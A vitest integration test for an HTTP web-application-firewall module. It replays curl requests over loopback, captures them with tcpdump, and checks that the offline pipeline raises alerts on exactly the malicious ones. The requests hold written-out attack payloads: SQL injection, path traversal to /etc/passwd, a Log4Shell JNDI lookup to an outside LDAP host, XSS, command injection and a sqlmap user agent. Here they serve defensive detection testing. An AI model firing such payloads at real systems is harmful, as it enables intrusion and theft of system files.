// A real client: curl talks to a small HTTP server on loopback while tcpdump
// records the conversation; the capture then runs through the whole offline
// pipeline (runCapture: reader, engine, stream reassembly, http_waf, EVE).
// Needs root, tcpdump and curl: in CI their absence fails the test, elsewhere
// it is skipped with the reason.
import { execFile, execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { promisify } from 'node:util';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCapture } from '../../../host/engine/capture-run.js';
import { InspectorInstance } from '../../../host/wasm/instance.js';
import { SID, compiledWaf } from './waf.js';

function missing(): string | null {
  if (process.getuid?.() !== 0) return 'tcpdump on lo needs root';
  for (const tool of ['tcpdump', 'curl']) {
    try { execFileSync('which', [tool], { stdio: 'ignore' }); } catch { return `${tool} is not installed`; }
  }
  return null;
}
const why = missing();
if (why !== null && process.env.CI === 'true') throw new Error(`real-client test cannot run in CI: ${why}`);

const dir = mkdtempSync(join(tmpdir(), 'sf-http-waf-real-'));
let server: Server | null = null;
let dump: ChildProcess | null = null;

afterAll(() => {
  if (dump !== null && dump.exitCode === null) dump.kill('SIGKILL');
  server?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe.skipIf(why !== null)(`http_waf on a real curl conversation${why ? ` (skipped: ${why})` : ''}`, () => {
  let port = 0;
  const pcap = join(dir, 'curl.pcap');

  beforeAll(async () => {
    await compiledWaf();
    server = createServer((req, res) => {
      req.resume();
      req.on('end', () => { res.writeHead(200, { 'Content-Type': 'text/plain' }); res.end('ok\n'); });
    });
    await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
    // --immediate-mode: on this kernel tcpdump's default block-timeout capture delivered nothing from lo
    dump = spawn('tcpdump', ['-i', 'lo', '--immediate-mode', '-U', '-n', '-s', '0', '-w', pcap, `tcp port ${port}`], { stdio: ['ignore', 'ignore', 'pipe'] });
    await new Promise<void>((resolve, reject) => {
      const t = setTimeout(() => reject(new Error('tcpdump did not start within 10 s')), 10_000);
      dump!.stderr!.on('data', (b: Buffer) => { if (b.toString().includes('listening')) { clearTimeout(t); resolve(); } });
      dump!.on('exit', (code) => { clearTimeout(t); reject(new Error(`tcpdump exited with ${code}`)); });
    });
    const base = `http://127.0.0.1:${port}`;
    // async: the server answering curl lives in this process's event loop
    const run = promisify(execFile);
    const curl = (...args: string[]) => run('curl', ['-s', '-o', '/dev/null', '--max-time', '5', ...args], { timeout: 10_000 });
    await curl(`${base}/index.html`);
    await curl(`${base}/search?q=1%27%20OR%20%271%27%3D%271`);
    await curl('--path-as-is', `${base}/static/../../etc/passwd`);
    await curl('-A', 'sqlmap/1.7.2#stable (https://sqlmap.org)', `${base}/`);
    await curl('-H', 'X-Api-Version: ${${lower:j}ndi:ldap://198.18.0.66/a}', `${base}/api`);
    await curl('--data-urlencode', 'comment=<script>alert(1)</script>', `${base}/comment`);
    await curl('-H', 'Transfer-Encoding: chunked', '--data-binary', 'host=127.0.0.1;cat /etc/passwd', `${base}/ping`);
    await curl(`${base}/products?q=O%27Reilly+%26+Sons&max_price=19.99`);
    // let tcpdump flush the last packets, then stop it
    await new Promise((r) => setTimeout(r, 300));
    const exited = new Promise((r) => dump!.once('exit', r));
    dump!.kill('SIGINT');
    await exited;
  }, 60_000);

  it('alerts on exactly the attack requests, with their signatures, and reports every request as an http event', async () => {
    const eve = join(dir, 'eve.json');
    const instance = await InspectorInstance.create(await compiledWaf(), { clock: 'packet', logger: () => {} });
    const res = await runCapture({ pcap, rules: { defaultPolicy: 'inspect', rules: [] }, modules: [{ name: 'http_waf', instance }], eve });
    expect(res.error).toBeNull();
    const records = readFileSync(eve, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, any>);
    const alerts = records.filter((r) => r.event_type === 'alert').map((r) => r.alert.signature_id as number).sort();
    expect(alerts).toEqual([SID.SQLI, SID.XSS, SID.TRAVERSAL, SID.CMDI, SID.JNDI, SID.SCANNER].sort());
    const http = records.filter((r) => r.event_type === 'http').map((r) => r.http ?? r);
    const urls = http.map((h) => h.url as string).sort();
    expect(urls).toEqual(['/', '/api', '/comment', '/index.html', '/ping', '/products?q=O%27Reilly+%26+Sons&max_price=19.99',
      '/search?q=1%27%20OR%20%271%27%3D%271', '/static/../../etc/passwd'].sort());
    for (const h of http) {
      expect(h.hostname).toBe('127.0.0.1');
      expect(h.status).toBe(200);
      expect(h.http_user_agent).toMatch(/^(curl\/|sqlmap\/)/);
    }
  });
});
